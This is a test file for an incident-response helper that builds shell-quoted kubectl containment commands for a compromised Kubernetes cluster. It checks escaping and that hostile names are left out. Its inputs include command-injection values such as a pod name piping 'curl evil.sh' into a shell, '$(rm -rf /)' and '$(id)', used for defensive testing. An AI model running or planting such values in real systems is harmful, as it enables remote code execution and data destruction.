// Containment hints: values from logs are shell-quoted, and a value that is not a Kubernetes name gets no command.
import { describe, expect, it } from 'vitest';
import { buildContainmentHints, shellQuote } from '../../../lib/incidents/containment-hints';

describe('containment hints', () => {
  it('quotes for a POSIX shell, whatever the text', () => {
    expect(shellQuote('plain')).toBe("'plain'");
    expect(shellQuote("it's $(rm -rf /)")).toBe(`'it'\\''s $(rm -rf /)'`);
  });

  it('fills commands from the entities, and leaves out hostile names', () => {
    const hints = buildContainmentHints({
      cluster: 'prod',
      pods: [
        { namespace: 'payments', name: 'debug-7f9c' },
        { namespace: 'payments', name: 'x; curl evil.sh | sh' },
      ],
      serviceAccounts: [{ namespace: 'payments', name: 'debug' }],
      grants: [
        {
          bindingKind: 'RoleBinding',
          bindingName: 'debug-secrets',
          bindingNamespace: 'payments',
          roleKind: 'Role',
          roleName: 'secret-reader',
          subjectKind: 'ServiceAccount',
          subjectName: 'debug',
          subjectNamespace: 'payments',
        },
        {
          bindingKind: 'ClusterRoleBinding',
          bindingName: '$(id)',
          bindingNamespace: null,
          roleKind: 'ClusterRole',
          roleName: 'view',
          subjectKind: 'Group',
          subjectName: 'g',
          subjectNamespace: null,
        },
      ],
      secrets: [{ namespace: 'payments', name: 'stripe-api-key' }],
    });
    expect(hints.map((hint) => hint.command)).toEqual([
      "kubectl --context 'prod' -n 'payments' delete pod 'debug-7f9c'",
      "kubectl --context 'prod' -n 'payments' delete rolebinding 'debug-secrets'",
      "kubectl --context 'prod' -n 'payments' get serviceaccount 'debug' -o yaml > sa-backup.yaml && kubectl --context 'prod' -n 'payments' delete serviceaccount 'debug' && kubectl --context 'prod' -n 'payments' create serviceaccount 'debug'",
      "kubectl --context 'prod' -n 'payments' get secret 'stripe-api-key' -o jsonpath='{.metadata.resourceVersion}'",
    ]);
  });
});
